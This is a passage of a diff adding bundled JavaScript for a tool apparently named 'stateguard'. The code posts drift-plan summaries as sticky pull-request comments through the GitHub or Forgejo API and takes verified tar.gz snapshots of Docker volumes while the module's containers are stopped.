+        for (const p of problems.slice(0, MAX_SUMMARY_ROWS)) {
+            lines.push(`| ${cell(p.file)} | ${p.line}:${p.column} | ${p.rule} | ${p.severity} | ${cell(p.message)} |`);
+        }
+        if (problems.length > MAX_SUMMARY_ROWS)
+            lines.push('', `${problems.length - MAX_SUMMARY_ROWS} more problems not listed here; run \`stateguard lint-workflows\` locally for all of them.`);
+    }
+    if (hidden.size > 0) {
+        lines.push('', `Annotations are limited to ${MAX_ANNOTATIONS_PER_FILE} per file; not annotated: ` + [...hidden.entries()].map(([f, n]) => `${cell(f)} (${n} more)`).join(', ') + '.');
+    }
+    lines.push('', 'Rules: what, why and how to fix each one are in docs/rules.md.');
+    return lines.join('\n');
+}
+
+;// CONCATENATED MODULE: ./src/report/github.ts
+/**
+ * A tiny REST client for the issue-comment endpoints that GitHub and Forgejo/Gitea share
+ * (`/repos/{owner}/{repo}/issues/{n}/comments`, `/repos/{owner}/{repo}/issues/comments/{id}`).
+ * It uses global fetch and honours GITHUB_API_URL (Forgejo sets it to `<host>/api/v1`).
+ *
+ * The token goes only into the Authorization header: it is never part of a URL, an error message
+ * or a log line.
+ */
+class GitHubApiError extends Error {
+    status;
+    constructor(message, status) {
+        super(message);
+        this.status = status;
+        this.name = 'GitHubApiError';
+    }
+}
+function apiUrlFrom(env) {
+    return (env.GITHUB_API_URL?.trim() || 'https://api.github.com').replace(/\/+$/, '');
+}
+/** The `rel="next"` target of a Link header, if any. */
+function nextLink(header) {
+    if (!header)
+        return null;
+    for (const part of header.split(',')) {
+        const m = /<([^>]+)>\s*;\s*rel="?next"?/.exec(part.trim());
+        if (m)
+            return m[1];
+    }
+    return null;
+}
+class GitHubClient {
+    api;
+    token;
+    fetchImpl;
+    maxPages;
+    timeoutMs;
+    constructor(opts) {
+        this.api = opts.apiUrl.replace(/\/+$/, '');
+        this.token = opts.token;
+        this.fetchImpl = opts.fetch ?? fetch;
+        this.maxPages = opts.maxPages ?? 50;
+        this.timeoutMs = opts.timeoutMs ?? 30_000;
+    }
+    repoPath(repository) {
+        const [owner, name, ...rest] = repository.split('/');
+        if (!owner || !name || rest.length > 0)
+            throw new Error(`GITHUB_REPOSITORY must be owner/name, got ${JSON.stringify(repository)}`);
+        return `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(name)}`;
+    }
+    async request(method, url, body) {
+        const res = await this.fetchImpl(url, {
+            method,
+            headers: {
+                Accept: 'application/vnd.github+json, application/json',
+                // `token` works on GitHub and Forgejo/Gitea alike.
+                Authorization: `token ${this.token}`,
+                'User-Agent': 'stateguard',
+                ...(body === undefined ? {} : { 'Content-Type': 'application/json' }),
+            },
+            body: body === undefined ? undefined : JSON.stringify(body),
+            signal: AbortSignal.timeout(this.timeoutMs),
+        });
+        if (!res.ok) {
+            let detail = '';
+            try {
+                const j = (await res.json());
+                if (typeof j.message === 'string')
+                    detail = `: ${j.message.slice(0, 200)}`;
+            }
+            catch {
+                /* no JSON body */
+            }
+            // The path only (no query, no token), so the message is safe to log.
+            throw new GitHubApiError(`${method} ${new URL(url).pathname} returned HTTP ${res.status}${detail}`, res.status);
+        }
+        return res;
+    }
+    /** Every comment of an issue/PR, following Link headers (GitHub, Forgejo) or page numbers. */
+    async listIssueComments(repository, issue) {
+        const out = [];
+        const seen = new Set();
+        let url = `${this.api}${this.repoPath(repository)}/issues/${issue}/comments?per_page=100&page=1`;
+        for (let page = 1; url && page <= this.maxPages; page++) {
+            const res = await this.request('GET', url);
+            const items = (await res.json());
+            if (!Array.isArray(items))
+                throw new GitHubApiError(`listing comments returned ${typeof items}, not an array`, res.status);
+            let fresh = 0;
+            for (const c of items) {
+                if (typeof c.id !== 'number' || seen.has(c.id))
+                    continue;
+                seen.add(c.id);
+                fresh++;
+                out.push({ id: c.id, body: typeof c.body === 'string' ? c.body : '' });
+            }
+            const header = res.headers.get('link');
+            const link = nextLink(header);
+            // Follow a next link only on the API's own origin: the token must never go to another host.
+            if (link)
+                url = new URL(link, this.api).origin === new URL(this.api).origin ? new URL(link, this.api).href : null;
+            // A Link header without rel="next" is the last page.
+            else if (header)
+                url = null;
+            // No Link header at all: keep paging while pages bring new comments (a server that ignores `page` stops here).
+            else
+                url = items.length > 0 && fresh > 0 ? `${this.api}${this.repoPath(repository)}/issues/${issue}/comments?per_page=100&page=${page + 1}` : null;
+        }
+        return out;
+    }
+    async createIssueComment(repository, issue, body) {
+        const res = await this.request('POST', `${this.api}${this.repoPath(repository)}/issues/${issue}/comments`, { body });
+        const j = (await res.json());
+        return { id: j.id, body: j.body ?? body };
+    }
+    async updateIssueComment(repository, commentId, body) {
+        const res = await this.request('PATCH', `${this.api}${this.repoPath(repository)}/issues/comments/${commentId}`, { body });
+        const j = (await res.json());
+        return { id: j.id ?? commentId, body: j.body ?? body };
+    }
+}
+
+;// CONCATENATED MODULE: ./src/report/plan-render.ts
+function observedText(m) {
+    const o = m.observed;
+    if (o.state === 'missing')
+        return 'missing';
+    let s = o.state === 'exited' || o.state === 'dead' ? `${o.state} (${o.exit_code ?? '?'})` : o.state;
+    if (o.health)
+        s += `, ${o.health}`;
+    if (o.replicas)
+        s += ` x${o.replicas}`;
+    return s;
+}
+function driftText(d) {
+    const extra = [d.reason, d.bump ? `bump: ${d.bump}` : undefined].filter(Boolean).join(', ');
+    return `${d.key}: declared ${d.declared}, observed ${d.observed}${extra ? ` (${extra})` : ''}`;
+}
+function pad(rows) {
+    const widths = rows[0].map((_, i) => Math.max(...rows.map((r) => r[i].length)));
+    return rows.map((r) => r.map((c, i) => (i === r.length - 1 ? c : c.padEnd(widths[i]))).join('  ').trimEnd());
+}
+/** The readable table printed by `stateguard plan`. */
+function renderPlanText(plan) {
+    if (plan.modules.length === 0)
+        return 'No modules to plan.';
+    const rows = [['MODULE', 'CLASS', 'EXPECTED', 'OBSERVED', 'DRIFT']];
+    for (const m of plan.modules) {
+        rows.push([m.name, m.class, m.expected_state, observedText(m), m.in_sync ? 'in sync' : m.drift.map((d) => d.key).join(', ')]);
+    }
+    const lines = pad(rows);
+    const drifted = plan.modules.filter((m) => !m.in_sync);
+    if (drifted.length > 0) {
+        lines.push('');
+        for (const m of drifted) {
+            lines.push(`${m.name} (${m.compose.project}/${m.compose.service}, ${m.compose.file}):`);
+            for (const d of m.drift)
+                lines.push(`  - ${driftText(d)}`);
+        }
+    }
+    lines.push('');
+    lines.push(drifted.length === 0
+        ? `${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'}, all in sync.`
+        : `${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'}, ${plan.summary.drifted} drifted: ${drifted.map((m) => m.name).join(', ')}.`);
+    lines.push(`plan_hash: ${plan.plan_hash}`);
+    return lines.join('\n');
+}
+/** Markdown-safe table cell (also neutralises HTML so a value cannot close the comment marker). */
+function mdCell(text) {
+    return text
+        .replace(/&/g, '&amp;')
+        .replace(/</g, '&lt;')
+        .replace(/>/g, '&gt;')
+        .replace(/\|/g, '\\|')
+        .replace(/`/g, "'")
+        .replace(/\r?\n/g, ' ');
+}
+/** Markdown for the job summary and the PR comment. `maxChars` bounds it (GitHub caps comments at 65536). */
+function renderPlanMarkdown(plan, opts = {}) {
+    const title = opts.title ?? 'stateguard plan';
+    const head = plan.summary.drifted === 0
+        ? `### ${title}: ${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'}, all in sync`
+        : `### ${title}: ${plan.summary.drifted} of ${plan.summary.modules} module${plan.summary.modules === 1 ? '' : 's'} drifted`;
+    const tail = `\n\nplan_hash: \`${plan.plan_hash}\``;
+    const rows = [];
+    // Drifted modules first: they are what a reviewer needs; in-sync ones are dropped first when long.
+    const ordered = [...plan.modules.filter((m) => !m.in_sync), ...plan.modules.filter((m) => m.in_sync)];
+    for (const m of ordered) {
+        const drift = m.in_sync ? 'in sync' : m.drift.map((d) => mdCell(driftText(d))).join('<br>');
+        rows.push(`| ${m.in_sync ? '✅' : '⚠️'} ${mdCell(m.name)} | ${m.class} | ${m.expected_state} | ${mdCell(`${m.compose.project}/${m.compose.service}`)} | ${mdCell(observedText(m))} | ${drift} |`);
+    }
+    const header = `${head}\n\n| module | class | expected | compose | observed | drift |\n|---|---|---|---|---|---|\n`;
+    const max = opts.maxChars ?? Infinity;
+    let body = '';
+    let shown = 0;
+    for (const r of rows) {
+        const omittedNote = `\n\n…and ${rows.length - shown - 1} more modules (see the plan JSON).`;
+        if (header.length + body.length + r.length + 1 + tail.length + omittedNote.length > max)
+            break;
+        body += r + '\n';
+        shown++;
+    }
+    const omitted = rows.length - shown;
+    return header + body.trimEnd() + (omitted > 0 ? `\n\n…and ${omitted} more modules (see the plan JSON).` : '') + tail;
+}
+
+;// CONCATENATED MODULE: ./src/report/pr-comment.ts
+/**
+ * The sticky PR comment of `plan` (DESIGN §11): one comment per (repo, plan scope), found by a
+ * hidden marker and edited in place on every later run, never a second one.
+ *
+ * The marker names the plan's scope (root, modules glob, module) so two plans in one repo (say,
+ * two platform roots) keep one comment each instead of overwriting each other.
+ */
+
+
+const MARKER_PREFIX = '<!-- stateguard:plan';
+/** Text safe inside an HTML comment: no `--` (which could end it) and no line breaks. */
+function markerSafe(text) {
+    return encodeURIComponent(text).replace(/-/g, '%2D');
+}
+function planCommentMarker(scope) {
+    const parts = [`root=${markerSafe(scope.root)}`, `modules=${markerSafe(scope.modules)}`];
+    if (scope.module)
+        parts.push(`module=${markerSafe(scope.module)}`);
+    return `${MARKER_PREFIX} ${parts.join(' ')} -->`;
+}
+/**
+ * The PR to comment on, from the runner's environment, or a reason why there is none.
+ * GitHub and Forgejo both set GITHUB_EVENT_NAME, GITHUB_EVENT_PATH, GITHUB_REPOSITORY, GITHUB_API_URL.
+ */
+function pullRequestFromEnv(env, readFile = (f) => (0,external_node_fs_namespaceObject.readFileSync)(f, 'utf8')) {
+    const event = env.GITHUB_EVENT_NAME ?? '';
+    if (event !== 'pull_request' && event !== 'pull_request_target')
+        return { skip: `event '${event || 'none'}' is not a pull request` };
+    const repository = env.GITHUB_REPOSITORY?.trim() ?? '';
+    if (!/^[^/\s]+\/[^/\s]+$/.test(repository))
+        return { skip: 'GITHUB_REPOSITORY is not set to owner/name' };
+    if (!env.GITHUB_EVENT_PATH)
+        return { skip: 'GITHUB_EVENT_PATH is not set' };
+    let payload;
+    try {
+        payload = JSON.parse(readFile(env.GITHUB_EVENT_PATH));
+    }
+    catch (err) {
+        return { skip: `cannot read the event payload: ${err instanceof Error ? err.message : String(err)}` };
+    }
+    const n = payload?.pull_request?.number ?? payload?.number;
+    if (typeof n !== 'number' || !Number.isSafeInteger(n) || n <= 0)
+        return { skip: 'the event payload has no pull request number' };
+    return { target: { apiUrl: apiUrlFrom(env), repository, number: n } };
+}
+/** Create the marked comment, or update the first existing comment that carries the marker. */
+async function upsertStickyComment(client, target, marker, body) {
+    const full = `${marker}\n${body}`;
+    const comments = await client.listIssueComments(target.repository, target.number);
+    const mine = comments.find((c) => c.body.startsWith(marker) || c.body.includes(`\n${marker}\n`));
+    if (mine) {
+        const updated = await client.updateIssueComment(target.repository, mine.id, full);
+        return { action: 'updated', id: updated.id };
+    }
+    const created = await client.createIssueComment(target.repository, target.number, full);
+    return { action: 'created', id: created.id };
+}
+
+;// CONCATENATED MODULE: ./src/commands/plan.ts
+/** `stateguard plan`: live drift of every module (DESIGN §3, §10, §11). */
+
+
+
+
+
+
+
+
+
+
+/** GitHub rejects comments over 65536 characters; leave room for the marker. */
+const COMMENT_MAX_CHARS = 60_000;
+function writePlanFile(file, plan) {
+    (0,external_node_fs_namespaceObject.mkdirSync)(external_node_path_default().dirname(file), { recursive: true });
+    (0,external_node_fs_namespaceObject.writeFileSync)(file, JSON.stringify(plan, null, 2) + '\n');
+}
+async function commentOnPullRequest(plan, scope, token, ctx) {
+    const pr = pullRequestFromEnv(ctx.env);
+    if ('skip' in pr) {
+        ctx.log.info(`plan: no PR comment (${pr.skip}).`);
+        return;
+    }
+    if (!token) {
+        ctx.log.warn('plan: no PR comment: the github-token input is empty.');
+        return;
+    }
+    try {
+        const client = new GitHubClient({ apiUrl: pr.target.apiUrl, token });
+        const marker = planCommentMarker(scope);
+        const body = renderPlanMarkdown(plan, { maxChars: COMMENT_MAX_CHARS });
+        const r = await upsertStickyComment(client, pr.target, marker, body);
+        ctx.log.info(`plan: ${r.action} the plan comment on ${pr.target.repository}#${pr.target.number} (comment ${r.id}).`);
+    }
+    catch (err) {
+        // A comment is a convenience: failing to post it never fails the plan.
+        ctx.log.warn(`plan: could not post the PR comment on ${pr.target.repository}#${pr.target.number}: ${errorMessage(err)}`);
+    }
+}
+const planCommand = defineCommand({
+    name: 'plan',
+    title: 'stateguard plan',
+    description: 'Plan the drift between the declared modules and the live engine.',
+    inputs: [
+        ROOT_INPUT,
+        MODULES_INPUT,
+        { name: 'module', kind: 'string', description: 'Plan only this module (default: every module).' },
+        { name: 'out', kind: 'string', description: 'Also write the plan JSON to this file (the action writes one to RUNNER_TEMP when empty).' },
+        { name: 'detailed-exitcode', kind: 'boolean', default: 'false', description: 'Exit 2 when drift is found (0 in sync).' },
+        {
+            name: 'github-token',
+            kind: 'string',
+            default: '${{ github.token }}',
+            actionOnly: true,
+            secret: true,
+            description: 'Token used to post the sticky PR comment on pull_request events.',
+        },
+        { name: 'comment', kind: 'boolean', default: 'true', actionOnly: true, description: 'Post or update the sticky PR comment on pull_request events.' },
+        JSON_INPUT,
+    ],
+    outputs: [
+        { name: 'changes', description: "'true' when any module drifted." },
+        { name: 'drifted-modules', description: 'JSON array of drifted module names (usable as a strategy.matrix).' },
+        { name: 'plan-json', description: 'Path of the written plan JSON file.' },
+        { name: 'plan-hash', description: 'sha256 of the canonical drift; pass to apply as expected-plan-hash.' },
+        FAILURE_REASON_OUTPUT,
+    ],
+    async run(opts, ctx) {
+        const set = loadValidModules(opts, ctx);
+        if (opts.module !== undefined)
+            pickModule(set, opts.module);
+        const plan = await planModules(set.modules, ctx.runtime(), opts.module ? { only: [opts.module] } : {});
+        let planFile = '';
+        if (opts.out) {
+            planFile = external_node_path_default().resolve(ctx.cwd, opts.out);
+            try {
+                writePlanFile(planFile, plan);
+            }
+            catch (err) {
+                throw new UserError(`--out ${JSON.stringify(opts.out)}: cannot write the plan file: ${errorMessage(err)}`, { input: 'out' });
+            }
+        }
+        else if (ctx.inAction) {
+            // The action always leaves a file behind for later steps (output plan-json).
+            planFile = external_node_path_default().join(ctx.env.RUNNER_TEMP || (0,external_node_os_namespaceObject.tmpdir)(), `stateguard-plan-${plan.plan_hash.slice(0, 12)}.json`);
+            writePlanFile(planFile, plan);
+        }
+        if (ctx.inAction && opts.comment) {
+            await commentOnPullRequest(plan, { root: opts.root, modules: opts.modules, module: opts.module }, opts.githubToken ?? '', ctx);
+        }
+        const drifted = plan.modules.filter((m) => !m.in_sync).map((m) => m.name);
+        const changes = drifted.length > 0;
+        return {
+            exitCode: changes && opts.detailedExitcode ? errors_ExitCode.drift : errors_ExitCode.ok,
+            json: plan,
+            text: renderPlanText(plan),
+            outputs: {
+                changes: String(changes),
+                'drifted-modules': JSON.stringify(drifted),
+                'plan-json': planFile,
+                'plan-hash': plan.plan_hash,
+                'failure-reason': '',
+            },
+            summary: renderPlanMarkdown(plan),
+            annotations: changes
+                ? [{ level: 'notice', title: 'stateguard plan', message: `${drifted.length} module${drifted.length === 1 ? '' : 's'} drifted: ${drifted.join(', ')}` }]
+                : [],
+        };
+    },
+});
+
+;// CONCATENATED MODULE: ./src/backup/tar-writer.ts
+/**
+ * A minimal tar writer for snapshot: regular files and directories only, headers encoded by the
+ * tar package's own Header/Pax classes (ustar, with a PAX header when a path or number does not fit).
+ * Writing our own headers (instead of copying docker's) means a snapshot carries no xattrs, links,
+ * uname/gname or other records verify-backup would have to judge.
+ */
+
+/** The header block(s) for one entry: an optional PAX header, then the ustar header. */
+function headerBlocks(e) {
+    const fields = {
+        path: e.path,
+        type: e.type,
+        size: e.type === 'Directory' ? 0 : e.size,
+        mode: e.mode & 0o7777,
+        uid: e.uid,
+        gid: e.gid,
+        mtime: e.mtime,
+    };
+    const header = new F(fields);
+    const block = Buffer.alloc(512);
+    const needPax = header.encode(block, 0);
+    if (!needPax)
+        return block;
+    const paxBlocks = new ft({ ...fields, atime: undefined, ctime: undefined }).encode();
+    return Buffer.concat([paxBlocks, block]);
+}
+/** Zero padding after a body of `size` bytes, up to the next 512-byte block. */
+function bodyPadding(size) {
+    const rem = size % 512;
+    return rem === 0 ? Buffer.alloc(0) : Buffer.alloc(512 - rem);
+}
+/** The end-of-archive marker: two zero blocks. */
+const END_OF_ARCHIVE = Buffer.alloc(1024);
+
+;// CONCATENATED MODULE: ./src/backup/snapshot.ts
+/**
+ * snapshot (DESIGN §7): `<module>-<stamp>.tar.gz` (+ `.sha256`) of a module's declared data
+ * volumes, taken while its containers are stopped.
+ *
+ * Order, and why:
+ * 1. Everything that can be checked without touching the engine's state is checked first (declared
+ *    volumes, the containers, each declared path really being a mount, no OTHER running container
+ *    writing to the same volume, out-dir, name not taken). A refusal here stops nothing.
+ * 2. Stop only this module's running containers (found by compose labels).
+ * 3. `docker cp container:path -` from the stopped container (needs no tools in the image, pulls
+ *    nothing), re-packed entry by entry under `<volume>/...` as regular files and directories
+ *    only, gzipped, hashed as written, into a temporary dot-file in out-dir, then fsynced.
+ *    A volume holding a symlink, hard link, device or FIFO is REFUSED, naming the entry: the
+ *    archive verify-backup accepts may hold nothing else, and silently dropping or dereferencing
+ *    such an entry would make a backup that restores something different from what was there.
+ * 4. Start the containers again — always, also when capturing failed — and say loudly if they
+ *    did not come back. This happens before the archive is re-read, so the module's downtime is
+ *    the copy alone.
+ * 5. Re-read the temporary file with the verify-backup walker (the archive must pass it, and its
+ *    sha256 must equal what was written), then publish it under its final name atomically
+ *    (`publish`, injectable for crash tests), write the `.sha256` the same way, fsync the directory.
+ *    A crash at any point leaves nothing under the final name but a complete, checked archive.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+/** A snapshot that could not be taken, or whose containers did not come back: a "no" (exit 1). */
+class SnapshotError extends UserError {
+    constructor(message) {
+        super(message, { reason: 'snapshot-failed', exitCode: 1 });
+        this.name = 'SnapshotError';
+    }
+}
+/** Docker's own rule for volume names; also keeps the archive's top-level directories clean. */
+const VOLUME_NAME_RE = /^[A-Za-z0-9][A-Za-z0-9_.-]*$/;
+const UP_STATES = new Set(['running', 'restarting']);
+/** Atomic publish that refuses to replace an existing file (link + unlink); rename where links are unsupported. */
+async function publishNoClobber(tempPath, finalPath) {
+    try {
+        await (0,promises_namespaceObject.link)(tempPath, finalPath);
+    }
+    catch (err) {
+        const code = err.code;
+        if (code === 'EEXIST')
+            throw new SnapshotError(`${finalPath} already exists; refusing to overwrite a backup`);
+        if (code !== 'EPERM' && code !== 'ENOTSUP' && code !== 'EOPNOTSUPP' && code !== 'ENOSYS')
+            throw err;
+        const exists = await (0,promises_namespaceObject.lstat)(finalPath).then(() => true, () => false);
+        if (exists)
+            throw new SnapshotError(`${finalPath} already exists; refusing to overwrite a backup`);
+        await (0,promises_namespaceObject.rename)(tempPath, finalPath);
+        return;
+    }
+    await (0,promises_namespaceObject.unlink)(tempPath);
+}
+async function fsyncDir(dir) {
+    const fh = await (0,promises_namespaceObject.open)(dir, external_node_fs_namespaceObject.constants.O_RDONLY);
+    try {
+        await fh.sync();
+    }
+    catch {
+        // some filesystems refuse fsync on a directory; the file itself was fsynced
+    }
+    finally {
+        await fh.close();
+    }
+}
+/** Write `content` to `finalPath` through a fsynced temporary file and an atomic publish. */
+async function writeFileAtomic(finalPath, content, publish) {
+    const temp = external_node_path_default().join(external_node_path_default().dirname(finalPath), `.${external_node_path_default().basename(finalPath)}.${(0,external_node_crypto_.randomBytes)(6).toString('hex')}.partial`);
+    const fh = await (0,promises_namespaceObject.open)(temp, external_node_fs_namespaceObject.constants.O_WRONLY | external_node_fs_namespaceObject.constants.O_CREAT | external_node_fs_namespaceObject.constants.O_EXCL, 0o644);
+    try {
+        await fh.writeFile(content);
+        await fh.sync();
+    }
+    finally {
+        await fh.close();
+    }
+    try {
+        await (publish ?? publishNoClobber)(temp, finalPath);
+    }
+    finally {
+        await (0,promises_namespaceObject.rm)(temp, { force: true });
+    }
+}
+/** Check everything that needs no change on the engine; returns the containers to stop. */
+async function plan(mod, runtime) {
+    if (mod.volumes.length === 0) {
+        throw new SnapshotError(`module '${mod.name}' declares no data volumes (spec.data.volumes), so there is nothing to snapshot. ` +
+            `Declare the volumes that hold its data in ${mod.file}.`);
+    }
+    for (const v of mod.volumes) {
+        if (!VOLUME_NAME_RE.test(v.volume)) {
+            throw new SnapshotError(`volume name ${JSON.stringify(v.volume)} in ${mod.file} is not a valid volume name (letters, digits, _ . -)`);
+        }
+    }
+    const seen = new Set();
+    for (const v of mod.volumes) {
+        if (seen.has(v.volume))
+            throw new SnapshotError(`volume ${v.volume} is declared twice in ${mod.file}`);
+        seen.add(v.volume);
+    }
+    const all = await runtime.listProjectContainers(mod.compose.project);
+    const mine = all.filter((c) => c.service === mod.compose.service);
+    const source = mine.find((c) => !c.oneoff) ?? mine[0];
+    if (!source) {
+        throw new SnapshotError(`no container of service '${mod.compose.service}' (compose project '${mod.compose.project}') exists, so there is nothing to copy ` +
+            `the volumes from. Deploy the module first.`);
+    }
+    const targets = [];
+    const volumeNames = [];
+    for (const v of mod.volumes) {
+        const mount = source.mounts.find((m) => m.destination === v.path);
+        if (!mount) {
+            throw new SnapshotError(`${v.path} (volume ${v.volume}) is not a mount in container ${source.name}: the data there would not survive a recreate, ` +
+                `and a snapshot of it would be of the container's own layer. Fix spec.data.volumes in ${mod.file} or the compose file.`);
+        }
+        if (mount.name)
+            volumeNames.push(mount.name);
+        targets.push({ volume: v.volume, path: v.path });
+    }
+    // Another running container writing the same volume would make the snapshot inconsistent.
+    const mineIds = new Set(mine.map((c) => c.id));
+    const writers = [];
+    for (const vol of volumeNames) {
+        const ps = await runtime.docker(['ps', '-q', '--no-trunc', '--filter', `volume=${vol}`]);
+        const ids = ps.stdout.split('\n').map((s) => s.trim()).filter((id) => id && !mineIds.has(id));
+        if (ids.length === 0)
+            continue;
+        for (const c of await runtime.inspectContainers(ids)) {
+            if (UP_STATES.has(c.state) && c.mounts.some((m) => m.name === vol))
+                writers.push(`${c.name} (volume ${vol})`);
+        }
+    }
+    if (writers.length) {
+        throw new SnapshotError(`other running containers use the module's volumes: ${writers.join(', ')}. A snapshot taken while they run could be ` +
+            `inconsistent; stop them (or wait for a one-shot to finish) and try again.`);
+    }
+    const toStop = mine.filter((c) => UP_STATES.has(c.state) || c.state === 'paused');
+    if (toStop.some((c) => c.state === 'paused')) {
+        throw new SnapshotError(`a container of '${mod.name}' is paused; unpause it first (stopping a paused container would change its state).`);
+    }
+    return { source, toStop, targets };
+}
+/** Streams one volume's `docker cp` tar into our writer, refusing anything but files and directories. */
+async function captureVolume(runtime, containerId, target, out, counters) {
+    const parser = new rt({ strict: true, zstd: false, brotli: false });
+    let failure = null;
+    let top = null;
+    let chain = Promise.resolve();
+    const fail = (message) => {
+        failure ??= message;
+    };
+    parser.on('error', (err) => fail(`docker cp of ${target.path} produced an unreadable tar: ${err.message}`));
+    parser.on('entry', (e) => {
+        const slash = e.path.indexOf('/');
+        const first = slash === -1 ? e.path : e.path.slice(0, slash);
+        const rest = slash === -1 ? '' : e.path.slice(slash + 1);
+        top ??= first;
+        const archivePath = rest === '' ? (e.type === 'Directory' ? `${target.volume}/` : target.volume) : `${target.volume}/${rest}`;
+        const shown = printablePath(`${target.path}/${rest}`);
+        if (failure) {
+            e.resume();
+            return;
+        }
+        if (first !== top)
+            fail(`docker cp of ${target.path} returned an entry outside it: ${printablePath(e.path)}`);
+        else if (e.type !== 'File' && e.type !== 'OldFile' && e.type !== 'Directory') {
+            const what = e.type === 'SymbolicLink' ? 'a symbolic link' : e.type === 'Link' ? 'a hard link' : `a ${e.type}`;
+            fail(`volume ${target.volume} holds ${what} at ${shown}. A snapshot holds only regular files and directories ` +
+                `(verify-backup refuses anything else), so this volume cannot be snapshotted as it is; replace the entry with ` +
+                `a regular file or move it out of the volume.`);
+        }
+        else {
+            const why = pathProblems(archivePath);
+            if (why.length)
+                fail(`volume ${target.volume} holds an entry whose name verify-backup would refuse (${why.join(', ')}): ${shown}`);
+        }
+        if (failure) {
+            e.resume();
+            return;
+        }
+        counters.entries++;
+        const type = e.type === 'Directory' ? 'Directory' : 'File';
+        const size = type === 'Directory' ? 0 : e.size;
+        // Headers and bodies go out strictly in order: each write waits for the previous one.
+        const header = headerBlocks({
+            path: archivePath,
+            type,
+            size,
+            mode: e.mode ?? (type === 'Directory' ? 0o755 : 0o644),
+            uid: e.uid ?? 0,
+            gid: e.gid ?? 0,
+            mtime: e.mtime ?? new Date(0),
+        });
+        chain = chain.then(() => out.write(header));
+        if (type === 'Directory') {
+            e.resume();
+            return;
+        }
+        // 'end' first: adding a 'data' listener resumes the entry, which may end at once.
+        e.on('end', () => {
+            chain = chain.then(() => out.write(bodyPadding(size)));
+        });
+        e.on('data', (chunk) => {
+            // Hold the entry (and so the parser and docker cp) until the chunk is written: bounded memory.
+            e.pause();
+            chain = chain.then(() => out.write(chunk)).finally(() => e.resume());
+        });
+    });
+    const sink = new external_node_stream_.Writable({
+        highWaterMark: 1024 * 1024,
+        write(chunk, _enc, cb) {
+            if (failure)
+                return cb(); // keep draining docker cp so it can exit
+            const ok = parser.write(chunk);
+            if (ok)
+                return cb();
+            parser.once('drain', () => cb());
+        },
+    });
+    const parserEnded = new Promise((resolve) => parser.once('end', resolve));
+    try {
+        await runtime.copyFrom(containerId, target.path, sink);
+    }
+    catch (err) {
+        fail(errorMessage(err));
+    }
+    await new Promise((resolve) => sink.end(() => resolve()));
+    if (!failure) {
+        parser.end();
+        // The parser ends synchronously on a complete stream; the timer only guards against a stall.
+        let timer;
+        await Promise.race([parserEnded, new Promise((r) => (timer = setTimeout(r, 30_000)))]);
+        clearTimeout(timer);
+    }
+    await chain;
+    if (failure)
+        throw new SnapshotError(failure);
+    if (top === null)
+        throw new SnapshotError(`docker cp of ${target.path} returned no entries`);
+}
+async function takeSnapshot(args) {
+    const { module: mod, runtime, log } = args;
+    const outDir = external_node_path_default().resolve(args.outDir);
+    const finalName = archiveName(mod.name, args.now);
+    const finalPath = external_node_path_default().join(outDir, finalName);
+    await runtime.ping();
+    const { source, toStop, targets } = await plan(mod, runtime);
+    await (0,promises_namespaceObject.mkdir)(outDir, { recursive: true });
+    if (await (0,promises_namespaceObject.lstat)(finalPath).then(() => true, () => false)) {
+        throw new SnapshotError(`${finalPath} already exists; refusing to overwrite a backup (wait a second and retry)`);
+    }
+    const tempPath = external_node_path_default().join(outDir, `.${finalName}.${(0,external_node_crypto_.randomBytes)(6).toString('hex')}.partial`);
+    const hash = (0,external_node_crypto_.createHash)('sha256');
+    let bytes = 0;
+    const counters = { entries: 0 };
+    let captureError = null;
+    let restartError = null;
+    let fh;
+    let gzip;
+    let fileWrites = Promise.resolve();
+    log.info(`snapshot ${mod.name}: stopping ${toStop.length ? toStop.map((c) => c.name).join(', ') : '(nothing running)'}`);
+    try {
+        await runtime.stop(toStop.map((c) => c.id));
+        fh = await (0,promises_namespaceObject.open)(tempPath, external_node_fs_namespaceObject.constants.O_WRONLY | external_node_fs_namespaceObject.constants.O_CREAT | external_node_fs_namespaceObject.constants.O_EXCL, 0o600);
+        const file = fh;
+        const gz = external_node_zlib_default().createGzip({ level: 6, chunkSize: 256 * 1024 });
+        gzip = gz;
+        let gzipError = null;
+        gz.on('data', (chunk) => {
+            hash.update(chunk);
+            bytes += chunk.length;
+            fileWrites = fileWrites.then(async () => {
+                await file.write(chunk);
+            });
+        });
+        gz.on('error', (err) => (gzipError = err));
+        const gzipEnded = new Promise((resolve) => {
+            gz.once('end', resolve);
+            gz.once('error', () => resolve());
+        });
+        const out = {
+            write: async (chunk) => {
+                if (chunk.length === 0)
+                    return;
+                if (!gz.write(chunk))
+                    await new Promise((r) => gz.once('drain', r));
+                // keep the file writes from falling far behind: bounded memory
+                await fileWrites;
+            },
+        };
+        for (const t of targets) {
+            log.info(`snapshot ${mod.name}: copying ${t.path} (volume ${t.volume}) from ${source.name}`);
+            await captureVolume(runtime, source.id, t, out, counters);
+        }
+        await out.write(END_OF_ARCHIVE);
+        gz.end();
+        await gzipEnded;
+        await fileWrites;
+        if (gzipError)
+            throw gzipError;
+        await file.sync();
+    }
+    catch (err) {
+        captureError = err;
+        gzip?.destroy();
+        // Pending writes may fail once the file is closed; the capture has failed already.
+        await fileWrites.catch(() => undefined);
+    }
+    finally {
+        await fh?.close().catch(() => undefined);
+        // Start the containers again whatever happened above.
+        if (toStop.length) {
+            try {
+                await runtime.start(toStop.map((c) => c.id));
+                const after = await runtime.inspectContainers(toStop.map((c) => c.id));
+                const down = toStop.filter((c) => !after.some((a) => a.id === c.id && UP_STATES.has(a.state)));
+                if (down.length)
+                    restartError = `${down.map((c) => c.name).join(', ')} did not come back up after the snapshot`;
+            }
+            catch (err) {
+                restartError = `starting ${toStop.map((c) => c.name).join(', ')} again failed: ${errorMessage(err)}`;
+            }
+            if (restartError) {
+                log.error(`SNAPSHOT: CONTAINERS OF ${mod.name.toUpperCase()} ARE NOT RUNNING: ${restartError}. Start them by hand now (docker start ...).`);
+            }
+            else {
+                log.info(`snapshot ${mod.name}: ${toStop.map((c) => c.name).join(', ')} running again`);
+            }
+        }
+    }
+    try {
+        if (captureError) {
+            throw captureError instanceof UserError ? captureError : new SnapshotError(`snapshot of ${mod.name} failed: ${errorMessage(captureError)}`);
+        }
+        const sha256 = hash.digest('hex');
+        // The archive must be one verify-backup accepts, and the bytes on disk the bytes we hashed.
